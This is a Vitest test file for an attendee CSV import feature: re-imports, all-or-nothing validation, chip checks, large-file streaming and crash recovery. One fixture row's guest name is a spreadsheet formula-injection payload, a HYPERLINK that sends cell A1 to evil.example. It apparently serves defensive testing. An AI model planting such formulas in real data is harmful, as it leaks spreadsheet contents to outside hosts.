import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { importAttendees, resumeAttendeeImports } from '../../src/attendees/importAttendees.js'
import { BaseError } from '../../src/errors.js'
import { createStation } from '../../src/stations/stations.js'
import { type BackendGateway, createBackendGateway, metadata, queryRows, seedTeam } from '../helpers/gateway.js'
import { TOOL_EXPORTS } from './toolExports.js'

const fixtures = path.join(import.meta.dirname, '../fixtures/attendees')
const fixture = (name: string) => fs.readFileSync(path.join(fixtures, name))
const CHIP = '04A1B2C3D4E5F6'
const OTHER_CHIP = '04A1B2C3D4E5F7'
const FOREIGN_CHIP = '04F0F0F0F0F0F0'
const MAP = 'name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet'

let gw: BackendGateway
let eventId: number
let teamId: number
let otherTeamEvent: number

beforeEach(async () => {
  gw = await createBackendGateway()
  const guestbook = (name: string) => [{ name, symbol: 'GST', chainId: 31337, events: [{ name: 'Opening', tokenId: '1', metadata: metadata() }] }]
  ;({ teamId } = await seedTeam(gw, { name: 'Venue', chips: [{ uid: CHIP }, { uid: OTHER_CHIP }], guestbookContracts: guestbook('Guests') }))
  const other = await seedTeam(gw, { name: 'Other', chips: [{ uid: FOREIGN_CHIP }], guestbookContracts: guestbook('Theirs') })
  eventId = (await gw.store.guestbook.listEvents(teamId))[0]!.id
  otherTeamEvent = (await gw.store.guestbook.listEvents(other.teamId))[0]!.id
})
afterEach(() => gw.close())

const run = (input: string | Uint8Array, opts: { map?: string; teamId?: number; eventId?: number } = {}) =>
  importAttendees(gw.store, { eventId: opts.eventId ?? eventId, teamId: opts.teamId, input, map: opts.map, now: gw.clock.now })

async function failure(promise: Promise<unknown>) {
  const error = await promise.then(
    () => expect.fail('expected an error'),
    (e: unknown) => e,
  )
  if (!(error instanceof BaseError)) throw error
  return { status: error.statusCode, code: error.code, message: error.message, errors: error.errors }
}

const stored = async () =>
  (await gw.store.attendees.list(eventId, { limit: 100, offset: 0 })).attendees.map((a) => [a.ticketCode, a.name, a.ticketType]).sort()

describe('each tool\'s export imports without options', () => {
  test.each(TOOL_EXPORTS)('%s', async (file, format, count) => {
    const report = await run(fixture(file))
    expect(report).toMatchObject({ eventId, format, imported: count, inserted: count, updated: 0, chipsBound: 0 })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(count)
  })
})

test('a re-import updates in place by ticket code, keeps guests the file leaves out, their check-ins and chips', async () => {
  await run(fixture('custom.csv'), { map: MAP })
  const ada = (await gw.store.attendees.findByCode(eventId, 'BC-0001'))!
  const door = await gw.store.tx((tx) => createStation(tx, { teamId, name: 'Door A', now: gw.clock.now }))
  const checkInId = await gw.store.checkIns.insert({ eventId, chipUid: null, attendeeId: ada.id, stationId: door.stationId, manual: true, now: gw.clock.now })
  expect(checkInId).not.toBeNull()

  // Ada renamed and moved to GA; BC-0002 and BC-0003 left out of the new file; a new guest; no wallet column.
  const again = await run('Guest,Barcode,Pass\nAda King,BC-0001,GA\nAlan Turing,BC-0004,VIP\n', { map: 'name=Guest,ticket=Barcode,type=Pass' })
  expect(again).toMatchObject({ imported: 2, inserted: 1, updated: 1, chipsBound: 0 })
  expect(await stored()).toEqual([
    ['BC-0001', 'Ada King', 'GA'],
    ['BC-0002', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', 'GA'],
    ['BC-0003', 'Grace Hopper', 'General'],
    ['BC-0004', 'Alan Turing', 'VIP'],
  ])
  const after = (await gw.store.attendees.findByCode(eventId, 'BC-0001'))!
  expect(after.id).toBe(ada.id)
  // A file without the column cannot clear what the first one set.
  expect(after).toMatchObject({ email: 'ada@example.com', wallet: '0x5FbDB2315678afecb367f032d93F642f64180aa3' })
  expect((await gw.store.checkIns.findActiveByAttendee(eventId, ada.id))?.id).toBe(checkInId)
  expect((await gw.store.attendeeChips.ofAttendee(ada.id)).map((c) => c.chipUid)).toEqual([CHIP])
})

test('the same file twice: everything updated, nothing inserted, the chip bound once', async () => {
  expect(await run(fixture('custom.csv'), { map: MAP })).toMatchObject({ inserted: 3, updated: 0, chipsBound: 1 })
  expect(await run(fixture('custom.csv'), { map: MAP })).toMatchObject({ inserted: 0, updated: 3, chipsBound: 0 })
  expect(await gw.store.attendeeChips.ofEvent(eventId)).toHaveLength(1)
})

test('one bad row among good ones: nothing imported', async () => {
  const csv = 'Guest,Barcode,Mail\nAda,A1,ada@example.com\nBob,A2,not-an-email\nCy,A3,\n'
  expect(await failure(run(csv, { map: 'name=Guest,ticket=Barcode,email=Mail' }))).toMatchObject({
    status: 400,
    code: 'csv_rows_invalid',
    errors: { 'line 3, Mail': '"not-an-email" is not an email address' },
  })
  expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
})

test("a chip that is not the event team's, or is another guest's, is a row error and nothing is imported", async () => {
  await run('Guest,Barcode,Chip\nAda,A1,' + CHIP + '\n', { map: 'name=Guest,ticket=Barcode,chip=Chip' })
  const csv = `Guest,Barcode,Chip\nNew,N1,\nBob,B1,${CHIP}\nEve,E1,${FOREIGN_CHIP}\nFay,F1,04EEEEEEEEEEEE\n`
  expect(await failure(run(csv, { map: 'name=Guest,ticket=Barcode,chip=Chip' }))).toMatchInlineSnapshot(`
    {
      "code": "csv_rows_invalid",
      "errors": {
        "line 3, Chip": "Chip 04A1B2C3D4E5F6 is bound to Ada (ticket A1); rebind it at the door, or leave it out",
        "line 4, Chip": "Chip 04F0F0F0F0F0F0 is not one of this event's team's chips (register it first: tapgate import)",
        "line 5, Chip": "Chip 04EEEEEEEEEEEE is not one of this event's team's chips (register it first: tapgate import)",
      },
      "message": "3 problems with the file's chips; nothing was imported",
      "status": 400,
    }
  `)
  expect(await stored()).toEqual([['A1', 'Ada', 'General']])
})

test("another team's event, or none: 404 event_not_found before the file is read", async () => {
  expect(await failure(run('garbage', { teamId, eventId: otherTeamEvent }))).toMatchObject({ status: 404, code: 'event_not_found' })
  expect(await failure(run('garbage', { eventId: 999 }))).toMatchObject({ status: 404, code: 'event_not_found' })
  expect(Number((await queryRows<{ n: unknown }>(gw.store, 'SELECT count(*) AS n FROM attendees'))[0]!.n)).toBe(0)
})

test('skipped rows are reported with their line and reason, and a Luma wallet typed wrong is a warning', async () => {
  const luma = fs.readFileSync(path.join(fixtures, 'luma.csv'), 'utf8').replace(',usd,,,,', ',usd,,not-a-wallet,,')
  const report = await run(luma)
  expect(report.skipped).toEqual([{ line: 4, ticketCode: 'b3Yc9rTe', reason: 'approval status waitlist' }])
  expect(report.warnings).toEqual([{ line: 2, column: 'eth_address', message: '"not-a-wallet" is not a 0x address: no wallet set' }])
})

describe('a big file (issue 24): read as a stream, staged in chunks, all or nothing', () => {
  const rows = (n: number, row: (i: number) => string) => ['Guest,Barcode', ...Array.from({ length: n }, (_, i) => row(i))].join('\n')
  const staged = async () => (await queryRows<{ n: number }>(gw.store, 'SELECT count(*) AS n FROM attendee_import_rows'))[0]!.n
  const imports = async () => (await queryRows<{ n: number }>(gw.store, 'SELECT count(*) AS n FROM attendee_imports'))[0]!.n

  test('an error on the last of 5,000 rows (four chunks staged before it): nothing imported, the list as it was, nothing left staged', async () => {
    await run('Guest,Barcode\nAda,T1\nBob,T2\n', { map: 'name=Guest,ticket=Barcode' })
    const before = await stored()
    const file = `${rows(5000, (i) => `Guest ${i},B${i}`)}\n,B-LAST\n`
    expect(await failure(run(file, { map: 'name=Guest,ticket=Barcode' }))).toEqual({
      status: 400,
      code: 'csv_rows_invalid',
      message: '1 problem in the --map file; nothing was imported',
      errors: { 'line 5002, Guest': 'The name is empty' },
    })
    expect(await stored()).toEqual(before)
    expect(await gw.store.attendees.countEvent(eventId)).toBe(2)
    expect([await staged(), await imports()]).toEqual([0, 0])
  })

  test('a ticket code repeated 4,000 rows later is found by the staging table, naming both lines', async () => {
    const file = `${rows(4500, (i) => `Guest ${i},B${i}`)}\nLate,B7\n`
    expect((await failure(run(file, { map: 'name=Guest,ticket=Barcode' }))).errors).toEqual({
      'line 4502, Barcode': 'Ticket code "B7" is on line 9 too: each ticket once',
    })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
    expect([await staged(), await imports()]).toEqual([0, 0])
  })

  test('5,000 rows imported in chunks: every one on the list, counted as new then as updated', async () => {
    const file = rows(5000, (i) => `Guest ${i},B${i}`)
    expect(await run(file, { map: 'name=Guest,ticket=Barcode' })).toMatchObject({ imported: 5000, inserted: 5000, updated: 0 })
    expect(await run(file, { map: 'name=Guest,ticket=Barcode' })).toMatchObject({ imported: 5000, inserted: 0, updated: 5000 })
    expect(await gw.store.attendees.countEvent(eventId)).toBe(5000)
    expect([await staged(), await imports()]).toEqual([0, 0])
  })

  test('a field over 10,000 characters: 413 naming the line and column, before the rest is read', async () => {
    const file = `Guest,Barcode\nAda,T1\nBob,${'x'.repeat(10_001)}\n${'Cy,T3\n'.repeat(100_000)}`
    const started = performance.now()
    expect(await failure(run(file, { map: 'name=Guest,ticket=Barcode' }))).toEqual({
      status: 413,
      code: 'csv_field_too_large',
      message: 'Line 3: the field in column "Barcode" is 10,001 characters long; at most 10,000; nothing was imported',
      errors: { 'line 3': 'the field in column "Barcode" is 10,001 characters long; at most 10,000' },
    })
    expect(performance.now() - started).toBeLessThan(2000)
    expect([await staged(), await imports()]).toEqual([0, 0])
  })

  test('45 rows of 1 MB each: 413 at the first, within a second', async () => {
    const file = `Guest,Barcode\n${Array.from({ length: 45 }, (_, i) => `${'n'.repeat(1024 * 1024)},T${i}`).join('\n')}\n`
    const started = performance.now()
    expect(await failure(run(file, { map: 'name=Guest,ticket=Barcode' }))).toMatchObject({
      status: 413,
      code: 'csv_row_too_large',
      message: 'Line 2: a row longer than 64 KB; nothing was imported',
    })
    expect(performance.now() - started).toBeLessThan(1000)
    expect(await gw.store.attendees.countEvent(eventId)).toBe(0)
  })

  test('a crash left two imports: the one still being checked is dropped, the one whose rows had all passed is finished', async () => {
    const long = gw.clock.now - 3_600_000
    const checking = await gw.store.attendeeImports.create(eventId, long)
    await gw.store.tx((tx) => tx.attendeeImports.stage(checking, [{ line: 2, name: 'Half', email: null, ticketType: 'GA', ticketCode: 'H1', wallet: null, note: null, needsAttention: null, chipUid: null, chipColumn: null }]))
    const applying = await gw.store.attendeeImports.create(eventId, long)
    await gw.store.tx((tx) => tx.attendeeImports.stage(applying, [{ line: 2, name: 'Whole', email: null, ticketType: 'GA', ticketCode: 'W1', wallet: null, note: null, needsAttention: true, chipUid: null, chipColumn: null }]))
    await gw.store.attendeeImports.setState(applying, 'applying')
    // One touched a moment ago is another process's import in progress: left alone.
    const live = await gw.store.attendeeImports.create(eventId, Date.now())
    expect(await resumeAttendeeImports(gw.store, Date.now())).toEqual({ dropped: 1, finished: 1 })
    expect(await stored()).toEqual([['W1', 'Whole', 'GA']])
    expect((await gw.store.attendees.findByCode(eventId, 'W1'))!.needsAttention).toBe(1)
    expect((await gw.store.attendeeImports.pending(Date.now() + 1)).map((i) => i.id)).toEqual([live])
  })
})
